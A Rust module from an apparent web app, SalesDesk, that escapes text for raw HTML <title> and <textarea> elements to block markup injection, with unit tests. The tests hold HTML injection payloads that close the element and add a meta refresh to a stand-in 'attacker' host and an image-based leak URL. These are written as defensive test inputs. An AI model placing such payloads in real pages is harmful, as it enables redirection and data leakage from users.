//! Text for the HTML elements the framework writes raw: `<title>` and `<textarea>`.
//!
//! tachys and leptos_meta write these elements' content without escaping (they are declared
//! like `<script>` and `<style>`), so a customer nickname such as
//! `</title><meta http-equiv="refresh" …>` would end the element and become markup. Both are
//! *escapable* raw text elements in HTML (RCDATA): the browser decodes entities inside them,
//! so escaping `&`, `<` and `>` gives the browser exactly the original text back. Every
//! place that writes such an element takes its text from here. (`<style>` and `<script>`
//! are not escapable; SalesDesk writes no data into them, and Leptos escapes `<` in its
//! own hydration scripts.)

/// Escapes `&`, `<` and `>` for an RCDATA element's content.
fn push_rcdata(out: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
}

/// A `<textarea>`'s initial text, ready to be its child. A leading line break would be
/// swallowed by the HTML parser, so one more goes first. Hydration never touches textarea
/// children; the islands set the value through `prop:value`.
pub fn textarea_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    if text.starts_with('\n') || text.starts_with('\r') {
        out.push('\n');
    }
    push_rcdata(&mut out, text);
    out
}

/// The document title for a page titled `page` (empty: the product name alone). The app's
/// one `<Title formatter>` calls this, so every page's `<Title text=…>` passes through it —
/// a customer's or clue's name included. Pages render on the server only (islands), so the
/// escaped text is never assigned to `document.title` by script, where it would show as
/// entities.
pub fn document_title(page: &str) -> String {
    let mut out = String::with_capacity(page.len() + 16);
    if !page.is_empty() {
        push_rcdata(&mut out, page);
        out.push_str(" · ");
    }
    out.push_str("SalesDesk");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn unescape(s: &str) -> String {
        s.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    }

    #[test]
    fn textarea_text_cannot_close_the_element() {
        let hostile = "</textarea><meta http-equiv=\"refresh\" content=\"0;url=http://attacker/\"><img src=\"http://x/leak?";
        let out = textarea_text(hostile);
        assert!(!out.contains('<') && !out.contains('>'), "{out}");
        assert_eq!(unescape(&out), hostile);
        assert_eq!(textarea_text("a &lt; b"), "a &amp;lt; b", "an entity typed by the rep stays text");
        assert_eq!(textarea_text("\n第二行"), "\n\n第二行");
    }

    #[test]
    fn document_title_cannot_close_the_element() {
        let nickname = "</title><meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.9/x\"><b id=\"x\">小&鱼";
        let out = document_title(nickname);
        assert!(!out.contains('<') && !out.contains('>'), "{out}");
        assert_eq!(unescape(&out), format!("{nickname} · SalesDesk"));
        assert_eq!(document_title(""), "SalesDesk");
        assert_eq!(document_title("客户"), "客户 · SalesDesk");
    }
}
